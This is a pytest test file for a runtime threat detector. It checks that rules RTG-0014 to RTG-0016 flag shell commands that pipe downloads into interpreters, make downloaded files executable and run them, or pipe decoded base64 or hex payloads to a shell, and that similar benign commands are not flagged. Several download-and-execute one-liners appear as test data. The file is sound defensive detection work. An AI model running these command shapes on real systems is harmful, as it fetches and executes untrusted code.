"""Scenario tests for RTG-0014..0016 Execution:Runtime/SuspiciousCommand (download piped to an
interpreter, download made executable, decoded payload piped to a shell), positive and negative."""

from __future__ import annotations

import pytest

from rtguard.testing.behaviour import found
from rtguard.testing.events import exec_event

EXE = "Execution:Runtime/SuspiciousCommand"


def shell(command: str, name: str = "sh") -> list[str]:
    return [name, "-c", command]


@pytest.mark.parametrize(
    ("command", "rule_id", "severity"),
    [
        ("curl -fsSL http://198.51.100.7/x.sh | sh", "RTG-0014", None),
        ("curl http://198.51.100.7/x.sh|bash -s -- --quiet", "RTG-0014", None),
        ("wget -qO- http://198.51.100.7/i | sudo bash", "RTG-0014", None),
        ("cd /tmp; /usr/bin/wget -q -O - http://x/p.py | /usr/bin/python3", "RTG-0014", None),
        ("curl -s http://x/a.pl | perl", "RTG-0014", None),
        ("wget http://198.51.100.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m", "RTG-0015", None),
        ("curl -o /dev/shm/k http://x/k; chmod 755 /dev/shm/k; /dev/shm/k", "RTG-0015", None),
        ("curl -so /tmp/k http://x/k && chmod u+x /tmp/k", "RTG-0015", None),
        ("echo Y3VybCB4Cg== | base64 -d | sh", "RTG-0016", 8.0),
        ("echo Y3VybCB4Cg== | base64 --decode | bash", "RTG-0016", 8.0),
        ("printf 6964 | xxd -r -p | sh", "RTG-0016", 8.0),
    ],
)
def test_download_and_execute_shapes_are_detected(command: str, rule_id: str, severity: float | None) -> None:
    detections = found(exec_event("sh", exe_path="/usr/bin/dash", argv=shell(command)), EXE)
    assert [d.rule_id for d in detections] == [rule_id], command
    (d,) = detections
    assert d.context == {"commandLineExample": f"sh -c {command}"}
    assert d.severity == severity
    assert d.artifact == "/usr/bin/dash"


def test_multi_line_scripts_and_other_shells_match() -> None:
    script = "set -e\ncurl -fsS http://127.0.0.1:8000/p.sh | sh\necho done"
    assert found(exec_event("bash", argv=shell(script, "bash")), EXE)
    assert found(exec_event("busybox", argv=["sh", "-c", "wget -qO- http://x/s | sh"]), EXE)


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsS http://127.0.0.1:8080/health",
        "curl -s http://x/data.json | jq .items",
        "curl -s http://x/list | shuf | head -1",
        "wget -q http://x/archive.tgz && tar xzf archive.tgz",
        "curl -o /tmp/f http://x/f && chmod 644 /tmp/f",
        "curl -o /tmp/f http://x/f && chmod -x /tmp/f",
        "echo aGk= | base64 -d",
        "echo aGk= | base64 -d | sha256sum",
        "base64 /tmp/f | shasum",
        "ls /tmp | sh-lint",
        "cat install.sh | sh",
        "mycurl http://x | sh",
        "chmod +x ./run.sh && ./run.sh",
    ],
)
def test_ordinary_commands_are_not_suspicious(command: str) -> None:
    assert not found(exec_event("sh", argv=shell(command)), EXE), command


def test_only_shell_command_lines_are_matched() -> None:
    # curl itself, with the pipe in its arguments (a URL), is not a shell pipeline
    assert not found(exec_event("curl", argv=["curl", "http://x/?q=a|sh"]), EXE)
    # the sh at the end of the pipe has no download in its own arguments
    assert not found(exec_event("sh", argv=["sh"]), EXE)
